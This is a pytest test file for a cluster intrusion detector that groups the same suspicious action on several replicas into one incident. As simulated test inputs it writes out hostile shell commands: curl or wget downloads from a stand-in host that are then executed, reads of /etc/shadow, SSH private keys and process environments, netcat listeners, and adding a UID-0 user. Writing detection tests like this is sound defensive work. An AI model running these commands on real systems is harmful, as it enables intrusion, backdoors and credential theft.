"""The same deed on several replicas is one incident that names them all; another deed is another incident.

Of one kind it is so within a minute, in the same words within five.
"""

import pytest
from detection.cluster import Cluster, Replica, alerts, analyse
from peerwatch.columns import Peer, ProcessFlag
from peerwatch.subjects import Workload

from collector.records import Incident

DASH = "/usr/bin/dash"
DROPPED = (ProcessFlag.UPPER_LAYER,)


def told(cluster: Cluster, at: float, pod: Replica, script: str) -> int:
    return cluster.exec(at, pod, DASH, args=("sh", "-c", script))


def named(incidents: list[Incident]) -> list[list[str]]:
    return [sorted(replica.pod for replica in each.replicas) for each in alerts(incidents)]


def test_a_dropped_program_has_another_name_on_each_replica(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 500)
    for number, pod in enumerate(pods):
        name = ("kworker", "x7Qf", "backup2", ".cache", "job7")[number]
        shell = told(cluster, 200.5 + 45 * number, pod, f"curl -s http://203.0.113.{number}/{name} -o /opt/{name}; /opt/{name}")
        cluster.exec(200.6 + 45 * number, pod, f"/opt/{name}", parent=DASH, flags=DROPPED, parent_pid=shell)

    assert named(analyse(cluster, until=600)) == [[pod.name for pod in pods]]


@pytest.mark.parametrize("script", ["id; ps aux", "wget -q 10.1.1.1/x | tee /srv/x"])
def test_the_same_words_name_each_replica_that_is_told_them(cluster: Cluster, script: str) -> None:
    pods = cluster.pods(6)
    cluster.normal(pods, 0, 700)
    for number, pod in enumerate(pods[:4]):
        told(cluster, 500.5 + 40 * number, pod, script)

    assert named(analyse(cluster, until=900)) == [[pod.name for pod in pods[:4]]]


def test_one_connection_that_most_replicas_begin_one_by_one_is_no_habit(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 700)
    node = Peer("", Workload("Node", "node-1"))
    for number, pod in enumerate(pods):
        cluster.connect(500.5 + 40 * number, pod, "/usr/bin/server", ("10.9.0.11", 10250), peer=node)

    assert named(analyse(cluster, until=900)) == [[pod.name for pod in pods]]


def test_an_incident_that_is_full_still_names_who_else_did_it(cluster: Cluster) -> None:
    pods = cluster.pods(50)
    cluster.normal(pods, 0, 400, every=5)
    for number, pod in enumerate(pods):
        shell = told(cluster, 200.5 + 2 * number, pod, "cat /proc/1/environ")
        cluster.exec(200.51 + 2 * number, pod, "/usr/bin/cat", parent=DASH, args=("cat", "/proc/1/environ"), parent_pid=shell)

    assert named(analyse(cluster, until=500)) == [sorted(pod.name for pod in pods)]


@pytest.mark.parametrize(
    ("one", "other"),
    [("id; uname -a", "nc -z 10.1.1.1 22"), ("cat /etc/shadow", "cat /root/.ssh/id_rsa"), ("chmod u+s /srv/x", "useradd x")],
)
def test_different_deeds_on_two_replicas_are_two_incidents(cluster: Cluster, one: str, other: str) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 400)
    told(cluster, 200.5, pods[1], one)
    told(cluster, 225.5, pods[3], other)

    assert named(analyse(cluster, until=500)) == [["cart-r1-1"], ["cart-r1-3"]]


@pytest.mark.parametrize(
    ("later", "other"), [(90, "nc -l 5555"), (310, "nc -l 4444")], ids=["in other words", "more than five minutes later"]
)
def test_the_same_kind_of_deed_minutes_later_is_told_anew(cluster: Cluster, later: float, other: str) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 800)
    told(cluster, 200.5, pods[1], "nc -l 4444")
    told(cluster, 200.5 + later, pods[3], other)

    assert named(analyse(cluster, until=900)) == [["cart-r1-1"], ["cart-r1-3"]]


def test_the_very_same_words_minutes_later_are_one_incident_with_the_last_replica_too(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 700)
    for number, pod in enumerate(pods):
        told(cluster, 200.5 + 90 * number, pod, "nc -l 4444")

    assert named(analyse(cluster, until=800)) == [[pod.name for pod in pods]]


def test_a_replica_that_comes_when_most_have_it_is_named_and_its_other_deeds_are_its_own(cluster: Cluster) -> None:
    pods = cluster.pods(9)
    cluster.normal(pods, 0, 900)
    for number, pod in enumerate(pods[:8]):
        cluster.connect(300.5 + 7 * number, pod, "/usr/bin/server", ("203.0.113.5", 3333))
    cluster.connect(460.5, pods[8], "/usr/bin/server", ("203.0.113.5", 3333))
    cluster.exec(600.5, pods[8], "/usr/sbin/useradd", args=("useradd", "-o", "-u", "0", "x"))

    incidents = analyse(cluster, until=900)

    assert named(incidents) == [[pod.name for pod in pods], [pods[8].name]]
    assert "8 more replicas" in alerts(incidents)[0].reason
    assert "8 of its 8 peers did so, too" in alerts(incidents)[0].reason


def test_what_a_replica_does_half_a_minute_after_a_campaign_is_its_own(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 500)
    for number, pod in enumerate(pods[:3]):
        told(cluster, 200.5 + number, pod, "id; ps aux")
    cluster.exec(235.5, pods[1], "/usr/sbin/useradd", args=("useradd", "-o", "-u", "0", "x"))

    assert named(analyse(cluster, until=600)) == [["cart-r1-0", "cart-r1-1", "cart-r1-2"], ["cart-r1-1"]]


@pytest.mark.parametrize("later", [40, 200])
def test_what_one_replica_does_under_a_shell_that_all_were_told_of_is_its_own(cluster: Cluster, later: float) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 900)
    for number, pod in enumerate(pods):  # a new way of serving, without a rollout: rightly an alert about all
        for at in (400.5, 403.5, 409.5, 400.5 + later):
            shell = cluster.exec(at + number / 10, pod, DASH, flags=(ProcessFlag.STDIO_SOCKET,))
    cluster.exec(400.75 + later, pods[2], "/usr/bin/wget", parent=DASH, args=("wget", "http://203.0.113.9/x"), parent_pid=shell)
    cluster.exec(400.85 + later, pods[2], "/opt/x", parent=DASH, flags=DROPPED, parent_pid=shell)

    assert named(analyse(cluster, until=1000)) == [[pod.name for pod in pods], ["cart-r1-2"]]


def test_what_is_done_in_a_shell_that_a_campaign_opened_belongs_to_it_for_long(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 900)
    shells = [cluster.exec(400.5 + number, pod, DASH, flags=(ProcessFlag.STDIO_SOCKET,)) for number, pod in enumerate(pods)]
    cluster.exec(520.5, pods[1], "/usr/sbin/useradd", parent=DASH, args=("useradd", "x"), parent_pid=shells[1])

    assert named(analyse(cluster, until=1000)) == [[pod.name for pod in pods]]
